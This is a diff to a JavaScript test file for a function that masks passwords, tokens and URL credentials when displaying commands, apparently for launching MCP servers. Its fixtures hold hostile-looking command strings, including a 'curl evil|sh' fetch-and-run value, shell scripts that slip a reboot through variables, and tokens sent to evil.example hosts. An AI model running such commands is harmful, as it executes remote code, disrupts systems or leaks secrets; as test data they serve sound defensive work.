@@ -108,6 +108,19 @@ describe("describeTarget of a command", { meta: { covers: ["A12", "A21"] } }, ()
     ["node", "--token", "./evil.js"],
     ["node", "--key-cmd", "curl evil|sh"],
     ["env", "PASS=/tmp/evil", "sh"],
+    ["sh", "-c", "pass=reboot && $pass"],
+    ["sh", "-c", 'TOKEN=reboot; exec "$TOKEN" -f'],
+    ["sh", "-c", "x --token https://evil.example/a --auth-url=https://evil.example/b"],
+    ["python", "-u", "server.py"],
+    ["docker", "run", "-i", "-t", "mcp/fetch"],
+    ["docker", "run", "-p", "127.0.0.1:8080:80/tcp", "-u", "1000:1000", "-p8080:80", "image"],
+    ["uvx", "-p", "3.12", "mcp-server-git"],
+    ["npx", "-p", "@scope/package", "server"],
+    ["deno", "run", "npm:server"],
+    ["x", "-t", "stdio", "--auth", "none"],
+    ["x", "--token", "https://evil.example/a", "--key=https://evil.example/b"],
+    ["x", "--auth-url", "https://issuer.example/auth", "--session-timeout", "30", "--authType", "oauth"],
+    ["x", "--no-auth", "server", "--author", "ann", "--max-tokens", "1000", "--design", "modern"],
   ])("masks nothing in %s %s %s", (name, ...args) => {
     expect(describeCommand(name, ...args)).not.toContain("***");
   });
@@ -137,12 +150,15 @@ describe("describeTarget of a command", { meta: { covers: ["A12", "A21"] } }, ()
     ["curl -su 'admin:sword fish' x", "curl -su 'admin:***' x"],
     ["curl --user admin:swordfish x | sort -u a:b", "curl --user admin:*** x | sort -u a:b"],
     ["wget -u admin:swordfish x", "wget -u admin:*** x"],
+    ["x --url=https://ann:s3cret@x/mcp?k=s3cret run", "x --url=https://***@x/mcp?k=*** run"],
+    ["x --dsn=postgres://ann:s3cret@db --token https://x/a?k=s3cret", "x --dsn=*** --token https://x/a?k=***"],
+    ['TOKEN=swordfish; curl -H "Bearer $TOKEN" x', 'TOKEN=***; curl -H "Bearer $TOKEN" x'],
   ])("masks only the secrets in the script %s", (script, shown) => {
     expect(describeCommand("sh", "-c", script)).toBe(`sh -c ${JSON.stringify(shown)}`);
   });
 
   it("does not throw for a script with thousands of comment signs and quotes", () => {
-    for (const sign of ["#", " #", " # '", '\\"', "'", '"'])
+    for (const sign of ["#", " #", " # '", '\\"', "'", '"', "\n", "; "])
       expect(() => describeCommand("sh", "-c", sign.repeat(20_000))).not.toThrow();
   });
 
